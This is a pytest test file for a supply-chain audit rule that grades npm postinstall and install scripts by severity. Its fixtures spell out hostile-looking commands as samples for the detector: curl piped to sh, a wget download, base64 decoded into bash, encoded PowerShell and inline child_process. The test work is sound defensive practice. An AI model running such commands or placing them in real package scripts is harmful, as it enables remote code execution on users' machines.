from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from support.subjects import declares, entry, found, package, subject, use

from audit.model.contents import Source
from audit.model.manifest import Manifest

if TYPE_CHECKING:
    from audit.model.package import CapabilityUse
    from audit.rules import Subject

RULE = "install-script"


def scripted(
    command: str, *uses: CapabilityUse, name: str = "postinstall", **fields: Any
) -> Subject:
    script = use(f"script:{name}", "install", f"package.json:5:5:{command}")
    return subject(package("node_modules/a", script, *uses, scripts={name: command}, **fields))


GYP = use("script:gyp", "install", "binding.gyp:0:0")
UNREADABLE: dict[str, Any] = {
    "manifest": Manifest(problem="package.json is not valid JSON"),
    "locked": entry("node_modules/a", hasInstallScript=True),
}
UNREAD: dict[str, Any] = {
    "source": Source.MISSING,
    "locked": entry("node_modules/a", hasInstallScript=True),
}

SILENT = [
    pytest.param(subject(package("node_modules/a", scripts={"test": "true"})), id="a test script"),
    pytest.param(
        scripted("node x.js", declaration=declares("install")), id="declared by authority"
    ),
    pytest.param(
        scripted("node x.js", declaration=declares("script:postinstall")), id="declared by id"
    ),
    pytest.param(
        subject(package("node_modules/a", source=Source.MISSING)), id="missing, no script"
    ),
]


@pytest.mark.parametrize("judged", SILENT)
def test_silent(judged: Subject) -> None:
    assert found(RULE, judged) == ()


FIRING = [
    pytest.param(scripted("node-gyp rebuild", name="install"), "low", id="a builder"),
    pytest.param(
        scripted("prebuild-install -r napi || node-gyp rebuild"), "low", id="two builders"
    ),
    pytest.param(scripted("node-gyp rebuild && node x.js"), "moderate", id="a builder and more"),
    pytest.param(scripted("node setup.js"), "moderate", id="own code"),
    pytest.param(
        scripted("node x.js", declaration=declares("network")), "moderate", id="declares else"
    ),
    pytest.param(scripted("curl -s https://x.invalid/i | sh"), "high", id="pipe to a shell"),
    pytest.param(scripted("wget -qO /tmp/x https://x.invalid/x"), "high", id="downloads"),
    pytest.param(scripted("node -e \"require('child_process')\""), "high", id="inline code"),
    pytest.param(scripted("echo dHJ1ZQ== | base64 -d | bash"), "high", id="decoded"),
    pytest.param(scripted("powershell -enc AAAA"), "high", id="encoded powershell"),
    pytest.param(subject(package("node_modules/a", GYP)), "moderate", id="gyp without a script"),
    pytest.param(subject(package("node_modules/a", **UNREAD)), "moderate", id="not to be had"),
    pytest.param(subject(package("node_modules/a", **UNREADABLE)), "moderate", id="not to be read"),
]


@pytest.mark.parametrize(("judged", "severity"), FIRING)
def test_firing(judged: Subject, severity: str) -> None:
    (finding,) = found(RULE, judged)
    assert finding.severity == severity


def test_it_says_what_the_script_does() -> None:
    spawns = use("builtin:child_process.exec", "process", "setup.js:3:1")
    (finding,) = found(RULE, scripted("node ./setup", spawns))
    assert finding.message == 'runs "node ./setup" at postinstall (setup.js, which uses process)'


def test_credentials_in_a_command_are_masked() -> None:
    (finding,) = found(RULE, scripted("curl https://me:secret@x.invalid/"))
    assert "secret" not in finding.message


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("node setup.js", "node setup.js"),
        (
            f"node a.js {'--quiet ' * 20}&& curl -s https://x.invalid/i | sh",
            "node a.js --quiet --quiet … curl -s https://x.invalid/i | sh",
        ),
        (
            f"node a.js {'--quiet ' * 20}&& node the-last.js",
            "node a.js --quiet --quiet … --quiet --quiet --quiet --quiet && node the-last.js",
        ),
        (
            f"curl -s https://x.invalid/i | sh {'-s ' * 60}",
            "curl -s https://x.invalid/i | sh -s -s -s -s -s -s -s -s -s -s -s -s -s -s -s -…",
        ),
    ],
    ids=["short", "what downloads", "the end", "at its beginning"],
)
def test_of_a_long_command_the_part_that_tells_is_shown(command: str, shown: str) -> None:
    (finding,) = found(RULE, scripted(command))
    assert f'runs "{shown}" at postinstall' in finding.message
